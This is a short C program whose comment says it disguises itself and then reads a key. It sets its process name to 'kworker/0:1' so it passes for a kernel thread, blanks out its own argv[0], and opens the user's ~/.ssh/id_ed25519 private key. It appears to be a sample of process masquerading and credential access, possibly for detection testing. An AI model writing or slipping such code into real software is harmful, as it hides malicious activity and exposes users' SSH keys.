// Calls itself otherwise, and then reads a key.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>

int main(int count, char **names) {
    char path[512];
    (void)count;
    prctl(PR_SET_NAME, "kworker/0:1", 0, 0, 0);
    memset(names[0], 'x', strlen(names[0]));
    snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("HOME"));
    return open(path, O_RDONLY) < 0;
}
